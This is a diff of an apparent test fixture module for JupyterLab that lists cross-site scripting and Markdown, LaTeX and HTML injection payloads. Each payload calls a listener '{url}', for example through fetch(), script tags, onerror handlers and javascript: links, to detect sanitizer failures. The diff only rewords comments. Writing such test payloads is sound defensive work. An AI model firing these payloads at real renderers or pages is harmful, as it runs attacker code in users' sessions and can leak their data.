@@ -1,7 +1,7 @@
-"""Answers that try to load, run, click or deceive; each calls ``{url}`` or marks the page when it works.
+"""Hostile answers: they try to load, run, click or deceive.
 
-What a payload may do when it works: ask the listener at ``{url}`` for anything, raise a dialog, write
-``pwned`` to the console, change ``window.pwned``, run a command of JupyterLab.
+A payload that works sends a request to the listener at ``{url}``, opens a dialog, writes ``pwned`` to
+the console, changes ``window.pwned``, or runs a command of JupyterLab.
 """
 
 from __future__ import annotations
@@ -9,7 +9,7 @@ from __future__ import annotations
 _RUN = "fetch('{url}/ran'); console.log('pwned'); window.pwned = 1"
 _COMMAND = 'data-commandlinker-command="notebook:insert-cell-below" data-commandlinker-args="{{}}"'
 
-# What Jupyter's own Markdown lets a trusted output do: proof that the witnesses are awake.
+# Payloads that work in Jupyter's own Markdown in a trusted output: a check of the watchers.
 POTENT = (
     "![image]({url}/image.png?secret=1)",
     "<script>" + _RUN + "</script>",
@@ -46,12 +46,12 @@ PAYLOADS = (
     '<iframe src="javascript:parent.' + "console.log('pwned')" + '"></iframe>',
     "<script src='{url}/script.js'></script>",
     '<script type="module">import "{url}/module.js"</script>',
-    # Fences and code that break out of their attribute
+    # Fences and code that break out of an attribute
     '```"><img src="{url}/fence" onerror="' + _RUN + '">\ncode\n```',
     '```python" style="background:url({url}/info)\nprint(1)\n```',
     "````html\n<img src='{url}/in-code'>\n````",
     '`"><img src={url}/span>`',
-    # Mathematics that links, styles, loads or defines
+    # Mathematics with links, styles, loading or definitions
     r"$\href{{javascript:console.log('pwned')}}{{x}}$ and $\href{{{url}/tex}}{{y}}$",
     r"$$\require{{html}}\style{{background:url({url}/tex-style)}}{{x}}$$",
     r"$\unicode{{x3c}}\text{{<img src={url}/tex-text onerror=console.log('pwned')>}}$",
@@ -69,7 +69,7 @@ PAYLOADS = (
     '<a href="{url}/ping-target" ping="{url}/ping">ping</a>',
     '<div class="jp-RenderedHTMLCommon"><a download href="{url}/download">x</a></div>',
     '<label for="pwned" onclick="' + _RUN + '">label</label>',
-    # What only shows when the pieces are joined, or while half of it is there
+    # Payloads that are hostile only when pieces are joined, or when half of one is there
     '<img src=\n\n"{url}/split"\n\n>',
     "| a |\n|---|\n| <img src={url}/cell> |",
     "> <img src={url}/quote>\n\n- <img src={url}/item>",
@@ -82,10 +82,10 @@ PAYLOADS = (
 
 
 def payloads(url: str) -> list[str]:
-    """Return every payload, aimed at a listener."""
+    """Return every payload with the URL of a listener."""
     return [payload.format(url=url) for payload in PAYLOADS]
 
 
 def potent_payloads(url: str) -> list[str]:
-    """Return the payloads that work on whoever shows them as they are."""
+    """Return the payloads that work in a page that shows them without sanitizing."""
     return [payload.format(url=url) for payload in POTENT]
